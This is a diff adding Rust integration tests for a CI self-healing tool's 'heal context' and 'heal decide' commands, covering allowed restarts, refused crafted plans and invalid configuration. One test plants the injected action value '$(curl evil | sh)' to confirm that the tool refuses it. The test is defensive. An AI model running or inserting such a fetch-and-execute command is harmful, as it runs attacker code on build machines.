@@ -1,0 +1,154 @@
+//! `ci-medic heal context` and `heal decide` end to end: the compiled binary on
+//! recorded real runs, a crafted analysis, and bad configuration.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
+}
+
+fn ci_medic(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_ci-medic"))
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .envs(env.iter().copied())
+        .output()
+        .expect("run ci-medic")
+}
+
+fn read_json(path: &Path) -> serde_json::Value {
+    serde_json::from_str(
+        &std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())),
+    )
+    .expect("json")
+}
+
+fn validate(doc: &Path, schema: &str) {
+    let schema = read_json(&repo().join("schemas").join(schema));
+    let v = jsonschema::validator_for(&schema).expect("schema");
+    let instance = read_json(doc);
+    let errors: Vec<String> = v.iter_errors(&instance).map(|e| e.to_string()).collect();
+    assert!(errors.is_empty(), "{}: {errors:?}", doc.display());
+}
+
+/// A directory with the bundle and analysis of a recorded run and a config.
+fn prepared(run: &str, config: &str) -> tempfile::TempDir {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let dir = repo().join("fixtures/runs").join(run);
+    let o = ci_medic(
+        tmp.path(),
+        &[
+            "collect",
+            "--dir",
+            dir.to_str().expect("utf-8"),
+            "--out",
+            "bundle",
+        ],
+        &[],
+    );
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let o = ci_medic(tmp.path(), &["classify", "bundle"], &[]);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    std::fs::write(tmp.path().join(".ci-medic.toml"), config).expect("config");
+    tmp
+}
+
+const CONFIG: &str = "[heal]\n[heal.actions.rerun_failed]\n[heal.actions.restart_app]\nrun = \"scripts/start-app\"\nhealth_url = \"http://127.0.0.1:3000/healthz\"\n";
+
+#[test]
+fn a_manual_run_of_a_server_outage_is_allowed_with_restart_then_rerun() {
+    let tmp = prepared("server_unavailable", CONFIG);
+    let env = [
+        ("GITHUB_EVENT_NAME", "workflow_dispatch"),
+        ("GITHUB_RUN_ATTEMPT", "1"),
+    ];
+    let o = ci_medic(tmp.path(), &["heal", "context"], &env);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    validate(
+        &tmp.path().join("self-heal/context.json"),
+        "heal-context.v1.json",
+    );
+    let o = ci_medic(tmp.path(), &["heal", "decide"], &env);
+    assert!(o.status.success());
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains("self-heal: allowed"), "{err}");
+    let d = read_json(&tmp.path().join("self-heal/decision.json"));
+    validate(
+        &tmp.path().join("self-heal/decision.json"),
+        "heal-decision.v1.json",
+    );
+    assert_eq!(d["allowed"], true);
+    assert_eq!(d["actions"][0]["action"], "restart_app");
+    assert!(!d["rerun"]["tests"].as_array().expect("tests").is_empty());
+}
+
+#[test]
+fn a_push_and_a_crafted_plan_are_refused_with_reasons() {
+    let tmp = prepared("data_seed", CONFIG);
+    let path = tmp.path().join("analysis.json");
+    let mut a = read_json(&path);
+    let id = a["classification"]["failures"][0]["id"].clone();
+    a["self_heal_plan"]["actions"] = serde_json::json!([
+        { "action": "$(curl evil | sh)", "targets": [id], "reason": "" },
+        { "action": "reseed_data", "targets": [id], "reason": "not declared in this repository" },
+    ]);
+    std::fs::write(&path, serde_json::to_vec(&a).expect("json")).expect("write");
+    let o = ci_medic(tmp.path(), &["heal", "decide", "--event", "push"], &[]);
+    assert!(o.status.success(), "refusing is not an error");
+    let d = read_json(&tmp.path().join("self-heal/decision.json"));
+    assert_eq!(d["allowed"], false);
+    assert!(d["actions"].as_array().expect("actions").is_empty());
+    assert!(d["rerun"].is_null());
+    let refused: Vec<&str> = d["refused_actions"]
+        .as_array()
+        .expect("refused")
+        .iter()
+        .map(|r| r["reason"].as_str().expect("reason"))
+        .collect();
+    assert!(
+        refused[0].starts_with("not an action ci-medic knows"),
+        "{refused:?}"
+    );
+    assert!(
+        refused[1].contains("heal.actions.reseed_data"),
+        "{refused:?}"
+    );
+    let event = d["checks"]
+        .as_array()
+        .expect("checks")
+        .iter()
+        .find(|c| c["check"] == "event")
+        .expect("event");
+    assert_eq!(event["passed"], false);
+}
+
+#[test]
+fn bad_configuration_and_missing_bundles_are_refused_and_write_nothing() {
+    let tmp = prepared("timeout_flaky", "[heal]\nmax_attempts = \"two\"\n");
+    let o = ci_medic(tmp.path(), &["heal", "decide"], &[]);
+    assert_eq!(o.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(
+        err.contains(".ci-medic.toml: invalid type") && err.contains("line 2"),
+        "{err}"
+    );
+    assert!(!tmp.path().join("self-heal/decision.json").exists());
+    let o = ci_medic(tmp.path(), &["heal", "context", "--bundle", "nowhere"], &[]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(!tmp.path().join("self-heal/context.json").exists());
+    // An analysis that is missing is not an error: the context says why.
+    std::fs::remove_file(tmp.path().join("analysis.json")).expect("rm");
+    let o = ci_medic(tmp.path(), &["heal", "context"], &[]);
+    assert!(o.status.success());
+    let c = read_json(&tmp.path().join("self-heal/context.json"));
+    assert_eq!(c["analysis"]["present"], false);
+    assert!(
+        c["analysis"]["detail"]
+            .as_str()
+            .expect("detail")
+            .contains("analysis.json")
+    );
+}
